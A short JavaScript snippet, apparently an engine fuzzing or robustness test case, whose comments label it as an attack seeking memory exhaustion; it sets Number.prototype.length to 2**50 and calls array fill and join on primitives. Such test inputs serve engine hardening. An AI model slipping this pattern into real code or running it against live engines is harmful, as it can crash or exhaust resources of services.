// class: native
// attacks: changing and joining a number, which has a length by its prototype
// want: Memory
function sync({parent, children}) {
  Number.prototype.length = 2 ** 50;
  try { [].fill.call(5, 1) } finally { [].join.call(true) }
  return {};
}
